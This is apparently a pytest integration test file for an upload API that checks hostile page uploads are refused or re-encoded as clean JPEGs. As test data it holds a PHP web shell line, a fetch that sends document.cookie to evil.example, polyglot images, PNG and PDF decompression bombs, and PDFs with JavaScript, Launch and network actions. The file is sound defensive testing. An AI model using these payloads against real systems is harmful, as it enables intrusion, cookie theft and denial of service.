"""Hostile page uploads: only a real image or a clean PDF gets in, and then only as page images.

Extends tests/integration/intake/test_letters_api.py (HTML renamed .jpg, an SVG, one bomb, eleven
pages, a page over 10 MB, a damaged second page, GPS in a JPEG): here the name, the declared type
and the bytes disagree, polyglots carry payloads, images are truncated or lie about their size,
PDFs carry scripts and actions, and every format that can carry EXIF carries GPS. Each refused
upload is checked for its status and for leaving nothing behind (no letter with its client_ref, no
new object under pages/); each accepted one is checked in S3, object by object. A PDF is never
stored as a PDF: each of its pages is stored as the grayscale JPEG that moderators see and the
scan prints, so nothing of the file but its drawn pixels is kept.
"""

from __future__ import annotations

import io
import json
import struct
import threading
import time
import uuid
import zlib
from typing import Self

import boto3
import psutil
import pytest
from botocore.client import Config
from PIL import Image
from pypdf import PdfReader

from shared.page_image import is_page_jpeg
from tests import hidden_pages
from tests.support import handmade_pdf as pdf
from tests.support import letter

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

PAYLOADS = (b"<script", b"<?php", b"alert(", b"PK\x03\x04", b"<html", b"<svg", b"MANIFEST")
GPS_MARKERS = (b"Exif\x00\x00", b"GPS", b"SpyCam", b"SERIAL-4242", b"http://ns.adobe.com/xap", b"<x:xmpmeta")


# --- building hostile files ------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def jpeg(size=(48, 32), colour="white", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", **save)
    return out.getvalue()


def png(size=(48, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "PNG")
    return out.getvalue()


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    raw = png()
    iend = raw.rindex(b"IEND") - 4
    return raw[:iend] + _chunk(kind, data) + raw[iend:]


def jpeg_with_comment(text: bytes) -> bytes:
    raw = jpeg()
    return raw[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(text)) + text + raw[2:]


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header that promises width×height 1-bit pixels, with a few bytes of data behind it."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\0" * 64)) + _chunk(b"IEND", b"")


def png_bomb(side: int) -> bytes:
    """A complete, valid 1-bit PNG of side×side pixels that compresses to a few kilobytes."""
    row = b"\0" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    raw = jpeg()
    sof = raw.index(b"\xff\xc0")
    return raw[: sof + 5] + struct.pack(">HH", height, width) + raw[sof + 9 :]


def webp_claiming(width: int, height: int) -> bytes:
    bits = (width - 1) | ((height - 1) << 14)
    payload = b"\x2f" + struct.pack("<I", bits) + b"\0" * 16
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # make
    exif[0xA431] = "SERIAL-4242"  # body serial number
    exif[0x0112] = 6  # orientation: the stored page must come out upright
    exif[0x8825] = {1: "N", 2: (44.0, 57.0, 7.0), 3: "E", 4: (34.0, 6.0, 9.0)}  # Simferopol
    return exif.tobytes()


def image_with_gps(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "white").save(out, fmt, exif=gps_exif())
    return out.getvalue()


def jpeg_with_xmp_gps() -> bytes:
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="44,57.1N" '
           b'exif:GPSLongitude="34,6.1E"/></rdf:RDF></x:xmpmeta>')
    raw = jpeg()
    segment = b"http://ns.adobe.com/xap/1.0/\0" + xmp
    return raw[:2] + b"\xff\xe1" + struct.pack(">H", 2 + len(segment)) + segment + raw[2:]


def pdf_actions(data: bytes) -> list[str]:
    """The actions a stored PDF would run or open: page and catalog triggers, link and widget actions."""
    if not data.startswith(b"%PDF-"):
        return []  # a page image: nothing in it can act
    reader = PdfReader(io.BytesIO(data))
    found = []
    root = reader.trailer["/Root"].get_object()
    for key in ("/OpenAction", "/AA"):
        if key in root:
            found.append(f"catalog {key}")
    for number, page in enumerate(reader.pages, start=1):
        if "/AA" in page:
            found.append(f"page {number} /AA")
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            if action is not None:
                action = action.get_object()
                target = action.get("/URI") or action.get("/F") or action.get("/JS") or ""
                found.append(f"page {number} {action.get('/S')} {target}".strip())
    return found


# --- the upload and what it left behind --------------------------------------------------------


def _raw_s3(stack):
    infra = stack.infra
    return boto3.client("s3", endpoint_url=infra.s3_endpoint_url, aws_access_key_id=infra.s3_access_key_id,
                        aws_secret_access_key=infra.s3_secret_access_key, region_name="us-east-1",
                        config=Config(s3={"addressing_style": "path"}))


async def upload(probe, files: list[tuple[str, bytes, str]], *, expect, what: str, **letter_fields):
    ref = str(uuid.uuid4())
    fields = {"body": "", "client_ref": ref, **letter_fields}
    parts = [("pages", (name, data, declared)) for name, data, declared in files]
    started = time.monotonic()
    answer = await probe.request("intake", "POST", "/api/v1/letters", expect=expect, what=what,
                                 data={"letter": json.dumps(letter(**fields), ensure_ascii=False)}, files=parts)
    return answer, ref, time.monotonic() - started


async def assert_nothing_stored(dbs, store, ref: str, pages_before: set[str], tally, what: str) -> None:
    letters = dbs["intake"]["letters"].count_documents({"client_ref": ref})
    new_pages = set(await store.list_keys("pages/")) - pages_before
    if letters or new_pages:
        tally.wrongly_accepted(f"{what}: stored {letters} letter(s), {len(new_pages)} page object(s)")
    assert letters == 0, f"{what}: a letter was stored"
    assert not new_pages, f"{what}: page objects were left behind: {sorted(new_pages)}"


def stored_pages(dbs, store, ref: str) -> list[str]:
    doc = dbs["intake"]["letters"].find_one({"client_ref": ref})
    assert doc is not None, "the accepted letter is not in intake's database"
    return doc["page_keys"]


# --- refused --------------------------------------------------------------------------------

REFUSED = {
    # name, declared type and bytes disagree: only the bytes count
    "html-named-png": ([("page.png", b"<!doctype html><script>alert(document.cookie)</script>", "image/png")], 415),
    "javascript-named-jpg": ([("page.jpg", b"fetch('https://evil.example/'+document.cookie)", "image/jpeg")], 415),
    "svg-with-script-named-png": ([("page.png", (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
                                                 b'onload="alert(1)"><script>alert(2)</script></svg>'), "image/png")],
                                  415),
    "php-named-jpeg": ([("page.jpeg", b"<?php system($_GET['c']); ?>", "image/jpeg")], 415),
    "windows-exe-named-jpg": ([("page.jpg", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + b"\0" * 64, "image/jpeg")], 415),
    "zip-named-pdf": ([("page.pdf", b"PK\x03\x04\x14\0\0\0\x08\0" + b"\0" * 64, "application/pdf")], 415),
    "gif-declared-jpeg": ([("page.jpg", (b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0"
                                         b"\x01\0\x01\0\0\x02\x02D\x01\0;"), "image/jpeg")], 415),
    "tiff-with-gps": ([("page.jpg", image_with_gps("TIFF"), "image/jpeg")], 415),
    "empty-file": ([("page.jpg", b"", "image/jpeg")], 415),
    "text-declared-pdf-with-pdf-inside-later": ([("page.pdf", b"hello\n%PDF-1.4\n", "application/pdf")], 415),
    # polyglots that are not really images
    "jpeg-magic-then-html": ([("page.jpg", b"\xff\xd8\xff\xe0<html><script>alert(document.cookie)</script></html>",
                               "image/jpeg")], 422),
    "gifar-gif-plus-jar": ([("page.gif", b"GIF89a\x01\0\x01\0\0\0\0;" + b"PK\x03\x04META-INF/MANIFEST.MF" + b"\0" * 40,
                             "image/gif")], 415),
    "png-magic-then-javascript": ([("page.png", b"\x89PNG\r\n\x1a\nalert(1)//" + b"\0" * 40, "image/png")], 422),
    # damaged images
    "truncated-jpeg": ([("page.jpg", jpeg((400, 300), "red")[:300], "image/jpeg")], 422),
    "truncated-png": ([("page.png", png((400, 300))[:200], "image/png")], 422),
    "png-bad-crc": ([("page.png", png()[:29] + b"\0\0\0\0" + png()[33:], "image/png")], 422),
    "heic-brand-without-image": ([("page.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64, "image/heic")], 422),
    "webp-header-only": ([("page.webp", webp_claiming(100, 100), "image/webp")], 422),
    "jpeg-header-only": ([("page.jpg", b"\xff\xd8\xff", "image/jpeg")], 422),
    # decompression bombs that lie in their header, and ones inside chunks
    "png-header-claims-10-gigapixels": ([("page.png", png_claiming(100_000, 100_000), "image/png")], 422),
    "jpeg-sof-claims-4-gigapixels": ([("page.jpg", jpeg_claiming(65_500, 65_500), "image/jpeg")], 422),
    "webp-claims-268-megapixels": ([("page.webp", webp_claiming(16_384, 16_384), "image/webp")], 422),
    "png-ztxt-chunk-inflates-to-50mb": ([("page.png", png_with_chunk(
        b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 50_000_000, 9)), "image/png")], 422),
    "png-iccp-chunk-inflates-to-50mb": ([("page.png", png_with_chunk(
        b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * 50_000_000, 9)), "image/png")], 422),
    # PDFs that run code, open things or carry files
    "pdf-openaction-javascript": ([("page.pdf", pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
                                    "application/pdf")], 422),
    "pdf-page-aa-javascript": ([("page.pdf", pdf(page_extra=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
                                 "application/pdf")], 422),
    "pdf-launch-action": ([("page.pdf", pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
                            "application/pdf")], 422),
    "pdf-embedded-file": ([("page.pdf", pdf(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type "
                                            b"/Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"),
                            "application/pdf")], 422),
    "pdf-javascript-declared-jpeg": ([("page.jpg", pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (x) >>"),
                                       "image/jpeg")], 422),
    "pdf-damaged": ([("page.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\n%%EOF", "application/pdf")], 422),
    # PDFs whose drawing would decode far more pixels than any photo may have
    "pdf-image-xobject-400-megapixels": ([("page.pdf", hidden_pages.pdf_with_image_xobject(20_000, 20_000),
                                           "application/pdf")], 422),
    "pdf-inline-image-900-megapixels": ([("page.pdf", hidden_pages.pdf_with_inline_image(30_000, 30_000),
                                          "application/pdf")], 422),
    "pdf-jpeg-header-larger-than-its-dictionary": ([("page.pdf", hidden_pages.pdf_with_image_xobject(
        10, 10, data=hidden_pages.jpeg_claiming(20_000, 20_000), filter=b"/DCTDecode"), "application/pdf")], 422),
    "pdf-page-box-of-200-metres": ([("page.pdf", hidden_pages.pdf_with_image_xobject(
        10, 10, box=b"[0 0 576000 576000]"), "application/pdf")], 422),
    # each PDF page counts against the letter's ten: three PDF pages and eight photos are eleven
    "pdf-of-three-pages-and-eight-photos": ([("p.pdf", hidden_pages.pdf_of_pages(3), "application/pdf")]
                                            + [(f"p{n}.jpg", jpeg(), "image/jpeg") for n in range(8)], 413),
    # one bad page among good ones spoils the letter, and takes the good pages' objects with it
    "good-pages-then-svg": ([("p1.jpg", jpeg(), "image/jpeg"), ("p2.png", png(), "image/png"),
                             ("p3.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/jpeg")], 415),
}


@pytest.mark.parametrize(("files", "status"), REFUSED.values(), ids=REFUSED.keys())
async def test_hostile_page_is_refused_and_nothing_is_stored(probe, dbs, store, tally, files, status):
    what = files[-1][0]
    before = set(await store.list_keys("pages/"))
    answer, ref, _ = await upload(probe, files, expect=status, what=what)
    assert answer.json()["detail"]
    await assert_nothing_stored(dbs, store, ref, before, tally, what)


@pytest.mark.parametrize(
    "page_extra",
    [
        b"/A#41 << /O << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /L#61unch /F (cmd.exe) >> >>]",
    ],
    ids=["page-open-javascript", "link-launch"],
)
async def test_a_pdf_with_escaped_names_for_scripts_is_refused(probe, dbs, store, tally, page_extra):
    before = set(await store.list_keys("pages/"))
    answer, ref, _ = await upload(probe, [("page.pdf", pdf(page_extra=page_extra), "application/pdf")], expect=None,
                                  what="pdf-escaped-names")
    if answer is not None and answer.status_code == 201:
        for key in stored_pages(dbs, store, ref):
            tally.wrongly_accepted(f"pdf with escaped names stored as {key} with {pdf_actions(await store.get(key))}")
    assert answer is not None and answer.status_code == 422, f"accepted: {answer.status_code if answer else None}"
    await assert_nothing_stored(dbs, store, ref, before, tally, "pdf-escaped-names")


@pytest.mark.parametrize(
    "action",
    [b"/S /URI /URI (https://tracker.example/t?id=1)", b"/S /SubmitForm /F (https://tracker.example/f)",
     b"/S /GoToR /F (\\\\\\\\tracker.example\\\\share\\\\x.pdf) /D [0 /Fit]"],
    ids=["uri", "submit-form", "gotor-unc"],
)
async def test_a_pdf_with_network_actions_is_refused(probe, dbs, store, tally, action):
    page = pdf(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << " + action + b" >> >>]")
    answer, ref, _ = await upload(probe, [("page.pdf", page, "application/pdf")], expect=None, what="pdf-action")
    if answer is not None and answer.status_code == 201:
        for key in stored_pages(dbs, store, ref):
            tally.wrongly_accepted(f"pdf stored as {key} with {pdf_actions(await store.get(key))}")
    assert answer is not None and answer.status_code == 422


# --- bombs: refused fast, without the memory ----------------------------------------------------


class PeakMemory:
    """Samples a process's resident memory every 10 ms while a request runs."""

    def __init__(self, pid: int) -> None:
        self._process = psutil.Process(pid)
        self.baseline = self._process.memory_info().rss
        self.peak = self.baseline
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        deadline = time.monotonic() + 120
        while not self._done.is_set() and time.monotonic() < deadline:
            self.peak = max(self.peak, self._process.memory_info().rss)
            time.sleep(0.01)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_) -> None:
        self._done.set()
        self._thread.join(5)

    @property
    def growth_mb(self) -> float:
        return (self.peak - self.baseline) / 1e6


@pytest.mark.parametrize(
    ("name", "data"),
    [("400-megapixel.png", png_bomb(20_000)), ("900-megapixel.png", png_bomb(30_000))],
    ids=["400MP", "900MP"],
)
async def test_a_small_png_of_hundreds_of_megapixels_is_refused_within_a_second(probe, stack, dbs, store, tally,
                                                                                name, data):
    assert len(data) < 150_000, "the bomb should be small"
    before = set(await store.list_keys("pages/"))
    with PeakMemory(stack.services["intake"].process.process.pid) as memory:
        answer, ref, seconds = await upload(probe, [(name, data, "image/png")], expect=422, what=name)
    assert "absurd size" in answer.json()["detail"]
    assert seconds < 1.0, f"refusing {name} took {seconds:.2f}s"
    assert memory.growth_mb < 100, f"intake grew by {memory.growth_mb:.0f} MB while refusing {name}"
    await assert_nothing_stored(dbs, store, ref, before, tally, name)


async def test_a_10kb_png_that_inflates_to_79_megapixels_is_refused_quickly(probe, stack, tally):
    data = png_bomb(8_900)
    assert len(data) < 20_000
    with PeakMemory(stack.services["intake"].process.process.pid) as memory:
        answer, _, seconds = await upload(probe, [("page.png", data, "image/png")], expect=None, what="79MP-in-10KB")
    if answer is not None and answer.status_code == 201:
        tally.wrongly_accepted(f"79 MP PNG of {len(data)} bytes accepted after {seconds:.1f}s, +{memory.growth_mb:.0f} MB")
    assert answer is not None and answer.status_code == 422
    assert seconds < 2.0 and memory.growth_mb < 150


# --- accepted, but only as a freshly encoded image ----------------------------------------------

POLYGLOT_IMAGES = {
    "jpeg-then-html": ("page.jpg", jpeg() + b"<html><script>alert(document.cookie)</script></html>", "image/jpeg"),
    "jpeg-then-jar (jpegar)": ("page.jpg", jpeg() + b"PK\x03\x04META-INF/MANIFEST.MF" + b"\0" * 64, "image/jpeg"),
    "png-text-chunk-php-and-js": ("page.png", png_with_chunk(
        b"tEXt", b"Comment\0<?php system($_GET['c']); ?><script>alert(1)</script>"), "image/png"),
    "png-itxt-chunk-svg": ("page.png", png_with_chunk(
        b"iTXt", b"Description\0\0\0\0\0<svg onload=alert(1)><html>"), "image/png"),
    "png-then-script-after-iend": ("page.png", png() + b"<script>alert(1)</script>", "image/png"),
    "png-declared-html": ("page.html", png_with_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"), "text/html"),
    "png-declared-pdf": ("page.pdf", png(), "application/pdf"),
}


@pytest.mark.parametrize(("name", "data", "declared"), POLYGLOT_IMAGES.values(), ids=POLYGLOT_IMAGES.keys())
async def test_a_polyglot_that_is_really_an_image_is_stored_re_encoded_without_its_payload(
    probe, stack, dbs, store, tally, name, data, declared
):
    _, ref, _ = await upload(probe, [(name, data, declared)], expect=201, what=f"polyglot {name}")
    s3 = _raw_s3(stack)
    for key in stored_pages(dbs, store, ref):
        stored = await store.get(key)
        assert key.endswith(".jpg") and stored.startswith(b"\xff\xd8\xff")
        assert s3.head_object(Bucket=store.bucket, Key=key)["ContentType"] == "image/jpeg"
        carried = [p.decode(errors="replace") for p in PAYLOADS if p in stored]
        if carried:
            tally.leak(f"polyglot {name}: stored page still carries {carried}")
        assert not carried, f"{name}: the stored page still carries {carried}"
        with Image.open(io.BytesIO(stored)) as page:
            page.load()
            assert page.format == "JPEG"
            assert not page.info.get("comment") and not page.getexif()


@pytest.mark.parametrize(
    ("name", "data"),
    [("page.jpg", jpeg_with_comment(b"<script>alert(1)</script> SpyCam SERIAL-4242")),
     ("page.png", png_with_chunk(b"tEXt", b"comment\0<?php system($_GET['c']); ?> SERIAL-4242"))],
    ids=["jpeg-com-segment", "png-text-named-comment"],
)
async def test_a_comment_in_a_photo_does_not_survive_into_the_stored_page(probe, dbs, store, tally, name, data):
    _, ref, _ = await upload(probe, [(name, data, "image/jpeg")], expect=201, what=f"comment {name}")
    for key in stored_pages(dbs, store, ref):
        stored = await store.get(key)
        if b"SERIAL-4242" in stored:
            tally.leak(f"{name}: the comment survived into the stored page {key}")
        assert b"SERIAL-4242" not in stored


def _heif() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return image_with_gps("HEIF")


GPS_PHOTOS = {
    # name, bytes, declared type, size of the stored page (the photo is 40×20 with EXIF orientation 6)
    "jpeg-exif-gps": ("page.jpg", lambda: image_with_gps("JPEG"), "image/jpeg", (20, 40)),
    "png-exif-chunk-gps": ("page.png", lambda: image_with_gps("PNG"), "image/png", (20, 40)),
    "webp-exif-gps": ("page.webp", lambda: image_with_gps("WEBP"), "image/webp", (20, 40)),
    "heic-exif-gps": ("page.heic", _heif, "image/heic", (20, 40)),
    "jpeg-xmp-gps": ("page.jpg", jpeg_with_xmp_gps, "image/jpeg", (48, 32)),
    "jpeg-exif-gps-declared-octet-stream": ("photo", lambda: image_with_gps("JPEG"), "application/octet-stream",
                                            (20, 40)),
}


@pytest.mark.parametrize(("name", "make", "declared", "size"), GPS_PHOTOS.values(), ids=GPS_PHOTOS.keys())
async def test_a_photo_with_gps_is_accepted_and_stored_without_it(probe, dbs, store, tally, name, make, declared, size):
    data = make()
    assert b"GPSLatitude" in data or b"%\x88" in data or b"\x88%" in data, "the photo should carry a GPS position"
    _, ref, _ = await upload(probe, [(name, data, declared)], expect=201, what=f"gps {name}")
    keys = stored_pages(dbs, store, ref)
    assert len(keys) == 1
    stored = await store.get(keys[0])
    carried = [m.decode(errors="replace") for m in GPS_MARKERS if m in stored]
    if carried:
        tally.leak(f"{name}: stored page carries {carried}")
    assert not carried, f"{name}: the stored page carries {carried}"
    with Image.open(io.BytesIO(stored)) as page:
        assert not page.getexif() and "exif" not in page.info and "xmp" not in page.info
        assert "icc_profile" not in page.info
        assert page.size == size, "the stored page is not upright"


async def test_a_pdf_page_is_stored_as_a_page_image_without_its_author_metadata(probe, stack, dbs, store, tally):
    info = b"/Author (Oksana Writer +380931112233) /Creator (SpyScanner SERIAL-4242) /Title (to Crimea)"
    _, ref, _ = await upload(probe, [("scan.pdf", pdf(info=info), "application/pdf")], expect=201, what="pdf-info")
    (key,) = stored_pages(dbs, store, ref)
    stored = await store.get(key)
    assert key.endswith(".jpg") and is_page_jpeg(stored)
    assert _raw_s3(stack).head_object(Bucket=store.bucket, Key=key)["ContentType"] == "image/jpeg"
    carried = [m for m in ("Oksana", "380931112233", "SERIAL-4242", "SpyScanner") if m.encode() in stored]
    if carried:
        tally.leak(f"pdf metadata survived: {carried}")
    assert not carried


async def test_each_page_of_a_pdf_is_stored_as_its_own_page_image(probe, dbs, store):
    files = [("letter.pdf", hidden_pages.pdf_of_pages(3), "application/pdf"), ("p4.jpg", jpeg(), "image/jpeg")]
    _, ref, _ = await upload(probe, files, expect=201, what="pdf-of-three-pages-and-a-photo")
    keys = stored_pages(dbs, store, ref)
    assert len(keys) == 4
    for key in keys:
        assert key.endswith(".jpg") and is_page_jpeg(await store.get(key))


@pytest.mark.parametrize(
    ("name", "data"),
    [("xobject.pdf", hidden_pages.pdf_with_image_xobject(30_000, 30_000)),
     ("inline.pdf", hidden_pages.pdf_with_inline_image(30_000, 30_000))],
    ids=["image-xobject-900MP", "inline-image-900MP"],
)
async def test_a_pdf_holding_an_image_bomb_is_refused_within_a_second(probe, stack, dbs, store, tally, name, data):
    before = set(await store.list_keys("pages/"))
    with PeakMemory(stack.services["intake"].process.process.pid) as memory:
        answer, ref, seconds = await upload(probe, [(name, data, "application/pdf")], expect=422, what=name)
    assert "absurd size" in answer.json()["detail"]
    assert seconds < 1.0, f"refusing {name} took {seconds:.2f}s"
    assert memory.growth_mb < 100, f"intake grew by {memory.growth_mb:.0f} MB while refusing {name}"
    await assert_nothing_stored(dbs, store, ref, before, tally, name)
